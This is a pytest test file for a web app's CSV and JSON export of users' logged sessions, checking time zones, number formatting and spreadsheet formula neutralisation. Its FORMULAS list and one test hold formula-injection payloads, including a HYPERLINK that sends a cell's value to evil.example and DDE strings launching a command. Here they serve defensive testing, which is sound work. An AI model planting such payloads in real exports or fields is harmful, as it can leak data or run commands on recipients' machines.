"""The CSV and JSON downloads: the user's own times, a CSV a spreadsheet opens right (BOM, no
formulas run from a cell), numbers left as numbers."""

import csv
import io
import json
from datetime import UTC, datetime

import pytest

from accounts.models import Profile
from sessions.exports import csv_cell
from tests.helpers import stored_session

pytestmark = pytest.mark.django_db

# 05:56:34.736 UTC on 11 Nov 2026 is 00:56:34 in New York (UTC-5).
MOMENT = datetime(2026, 11, 11, 5, 56, 34, 736017, tzinfo=UTC)
FORMULAS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def body(response) -> str:
    return b"".join(response.streaming_content).decode()


@pytest.fixture
def new_yorker(user):
    Profile.objects.create(user=user, time_zone="America/New_York")
    return user


@pytest.fixture
def logged_at(user, hand_routine):
    def log(*, note: str = "", protocol_name: str | None = None, before: int = 6, after: int = 3):
        return stored_session(
            user,
            hand_routine,
            started_at=MOMENT,
            protocol_name=protocol_name or hand_routine.name,
            pain_before=before,
            pain_after=after,
            note=note,
        )

    return log


def csv_download(client) -> tuple[str, list[dict]]:
    text = body(client.get("/sessions/export.csv"))
    return text, list(csv.DictReader(io.StringIO(text.removeprefix("\ufeff"))))


def test_the_csv_starts_with_a_byte_order_mark_so_excel_reads_utf8(client_in, logged_at):
    logged_at(note="é ü ñ 痛")
    response = client_in.get("/sessions/export.csv")
    raw = b"".join(response.streaming_content)
    assert raw.startswith(b"\xef\xbb\xbfid,started_at,")
    [row] = csv.DictReader(io.StringIO(raw.decode("utf-8-sig")))
    assert row["note"] == "é ü ñ 痛"


def test_csv_times_are_local_without_microseconds(client, new_yorker, logged_at):
    logged_at()
    client.force_login(new_yorker)
    _, [row] = csv_download(client)
    assert row["started_at"] == "2026-11-11 00:56:34"
    assert row["finished_at"] == "2026-11-11 01:06:34"


def test_csv_times_without_a_stored_zone_are_the_sites(client_in, logged_at):
    logged_at()
    _, [row] = csv_download(client_in)
    assert row["started_at"] == "2026-11-11 05:56:34"


@pytest.mark.parametrize("formula", FORMULAS)
def test_a_note_that_looks_like_a_formula_is_written_as_text(client_in, logged_at, formula):
    logged_at(note=formula)
    _, [row] = csv_download(client_in)
    assert row["note"] == "'" + formula


def test_a_staff_written_routine_name_cannot_run_as_a_formula(client_in, logged_at):
    logged_at(protocol_name='=HYPERLINK("http://evil.example/","Knee routine")')
    text, [row] = csv_download(client_in)
    assert row["protocol"] == '\'=HYPERLINK("http://evil.example/","Knee routine")'
    assert ',"=HYPERLINK' not in text and ",=" not in text


def test_numbers_stay_numbers_even_when_negative(client_in, logged_at):
    logged_at(before=7, after=2, note="helped a lot")
    _, [row] = csv_download(client_in)
    assert (row["pain_before"], row["pain_after"], row["pain_change"]) == ("7", "2", "-5")
    assert row["seconds_spent"] == "0"
    assert row["note"] == "helped a lot"


def test_the_csv_cell_rule():
    assert csv_cell("=1+1") == "'=1+1"
    assert csv_cell("a=1") == "a=1"
    assert csv_cell(-3) == -3
    assert csv_cell(None) is None


def test_json_times_are_local_with_their_offset(client, new_yorker, logged_at):
    logged_at()
    client.force_login(new_yorker)
    data = json.loads(body(client.get("/sessions/export.json")))
    assert data["time_zone"] == "America/New_York"
    assert data["exported_at"][-6:] in {"-05:00", "-04:00"}
    [record] = data["sessions"]
    assert record["started_at"] == "2026-11-11T00:56:34-05:00"
    assert record["finished_at"] == "2026-11-11T01:06:34-05:00"


def test_json_keeps_notes_as_written(client_in, logged_at):
    logged_at(note="=1+1")
    [record] = json.loads(body(client_in.get("/sessions/export.json")))["sessions"]
    assert record["note"] == "=1+1"  # JSON is not a spreadsheet: nothing to neutralise
